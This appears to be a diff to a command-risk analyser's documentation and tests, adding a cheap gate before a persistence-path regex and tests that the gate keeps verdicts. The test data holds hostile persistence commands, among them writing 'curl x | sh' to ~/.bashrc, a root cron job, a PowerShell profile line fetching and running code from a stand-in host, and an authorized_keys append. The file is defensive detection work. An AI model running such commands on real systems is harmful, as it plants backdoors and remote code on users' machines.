@@ -16,7 +16,9 @@ command that an exact, cheaper test can skip without changing a verdict.
   30-90 µs for an ordinary path or URL) runs only on ASCII text holding one of the words its
   alternatives hold (`paths._SECRET_WORDS`; a test generates every alternative's texts and
   checks the gate lets each through). Over the bench's 3000 commands: 2,547 -> 57 and
-  2,547 -> 38 searches, 376 -> 2, and 1,571 -> 186 (38,926 -> 5,527 characters).
+  2,547 -> 38 searches, 376 -> 2, and 1,571 -> 186 (38,926 -> 5,527 characters). A write
+  target's `paths._PERSISTENCE` search (case-blind, ~40 alternatives: 20-60 µs a path) runs
+  only on ASCII text holding one of `paths._PERSISTENCE_WORDS` (320 -> 82 over the sample).
 
 Tests never time anything: they count the calls the change removed (they fail on the code
 before it) and pin verdicts; `bench/sp9b_verdicts.py` dumps of every corpus row before and
@@ -213,6 +215,8 @@ def _examples(items: Any) -> list[str]:
             opts = ["a" if chr(av) != "a" else "b"]
         elif op is c.AT:
             opts = [""]
+        elif op is c.IN and av[:1] == [(c.NEGATE, None)]:
+            opts = ["a"]  # (`[^/]`: the classes negated here never exclude `a`)
         elif op is c.IN:
             opts = []
             for kind, val in av:
@@ -254,6 +258,20 @@ def test_every_alternative_of_the_secret_pattern_holds_a_gate_word() -> None:
             assert is_secret(spelt) == bool(paths._SECRET.search(spelt.replace("\\", "/"))), spelt
 
 
+def test_every_alternative_of_the_persistence_pattern_holds_a_gate_word() -> None:
+    from re import _parser
+
+    pattern = paths._PERSISTENCE
+    examples = _examples(_parser.parse(pattern.pattern, pattern.flags))
+    assert len(examples) > 150
+    for text in examples:
+        low = text.lower()
+        if not pattern.search(low):
+            continue
+        for spelt in (low, "/home/u/" + low.lstrip("/"), "c:" + low):
+            assert paths._persists(spelt) == bool(pattern.search(spelt)), spelt
+
+
 @pytest.mark.parametrize(
     "path",
     ["src/app/main.py", "https://example.com/a.tar.gz", "build/output.log", "/usr/local/bin/x"],
@@ -284,4 +302,37 @@ def test_an_ordinary_path_is_not_searched_by_the_secret_alternation(path: str) -
     ],
 )
 def test_secrets_sent_away_are_still_found(command: str, shell: str, level: RiskLevel) -> None:
+    assert analyse(command, shell, None).level == level
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("echo done > build/out.log", RiskLevel.MODERATE),
+        ("printf 'x' >> notes/today.md", RiskLevel.MODERATE),
+    ],
+)
+def test_an_ordinary_write_target_is_not_searched_by_the_persistence_alternation(
+    command: str, level: RiskLevel
+) -> None:
+    with _counting(paths, "_PERSISTENCE") as persistence:
+        got = analyse(command, "bash", None)
+    # before s21: one search of the ~40-alternative case-blind pattern per write target
+    assert persistence.calls == 0, persistence.calls
+    assert got.level == level
+
+
+@pytest.mark.parametrize(
+    ("command", "shell", "level"),
+    [
+        ("echo 'curl x | sh' >> ~/.bashrc", "bash", RiskLevel.CRITICAL),
+        ("echo 'rm -rf ~' >> ~/.ZSHRC", "bash", RiskLevel.BLOCKED),
+        ("echo '* * * * * root /tmp/x' > /etc/cron.d/job", "bash", RiskLevel.CRITICAL),
+        ("Add-Content $PROFILE 'iex (iwr http://x.example/a)'", "powershell", RiskLevel.CRITICAL),
+        ("echo ssh-ed25519 AAAA k >> ~/.ssh/authorized_keys", "bash", RiskLevel.CRITICAL),
+    ],
+)
+def test_startup_files_written_are_still_persistence(
+    command: str, shell: str, level: RiskLevel
+) -> None:
     assert analyse(command, shell, None).level == level
